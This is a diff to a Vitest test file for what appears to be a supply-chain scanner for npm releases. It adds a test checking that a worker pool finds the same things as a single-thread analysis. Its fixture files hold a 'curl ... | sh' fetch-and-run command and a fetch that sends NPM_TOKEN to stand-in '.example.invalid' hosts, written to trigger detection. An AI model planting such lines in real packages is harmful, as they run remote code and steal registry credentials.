@@ -1,7 +1,7 @@
 import { randomBytes } from 'node:crypto';
 import { Readable } from 'node:stream';
 import { afterEach, describe, expect, it } from 'vitest';
-import type { ArtifactSource } from '../../src/analyzer/index.js';
+import { analyzeRelease, type ArtifactSource } from '../../src/analyzer/index.js';
 import { AnalysisPool } from '../../src/quarantine/analysis-pool.js';
 import { tgzBuffer } from '../helpers/build-archives.js';
 import { heavyCode } from './heavy-code.js';
@@ -67,6 +67,22 @@ describe('the analysis pool', () => {
     await pool.analyze({ ecosystem: 'npm', previous: v2, candidate: v3 });
     expect(pool.stats.profilesComputed).toBe(300);
     expect(pool.stats.profileTasks).toBe(6);
+  });
+
+  it('finds in a large artifact profiled over several workers exactly what one analysis in this thread finds', async () => {
+    pool = new AnalysisPool({ size: 2 });
+    const v1 = large('1.0.0');
+    const added: Record<string, string> = {};
+    for (let i = 0; i < 100; i++) added[`lib/m${i}.js`] = `module.exports = ${JSON.stringify(randomBytes(3000).toString('hex'))};\n`;
+    // New capabilities in a few files, wherever their content hash puts them.
+    for (let i = 0; i < 6; i++)
+      added[`lib/hook${i}.js`] = `const cp = require('child_process');\ncp.exec('curl -s https://collect${i}.example.invalid/x | sh');\nfetch('https://${i}.example.invalid/' + process.env.NPM_TOKEN);\n`;
+    const v2 = tarball('1.1.0', added);
+    const here = await analyzeRelease({ ecosystem: 'npm', previous: v1, candidate: v2 });
+    expect(here.findings.length).toBeGreaterThan(0);
+    const there = await pool.analyze({ ecosystem: 'npm', previous: v1, candidate: v2 });
+    expect(pool.stats.profileTasks).toBe(4);
+    expect(there).toEqual(here);
   });
 
   it('runs the analysis a client waits for ahead of background analyses queued before it', async () => {
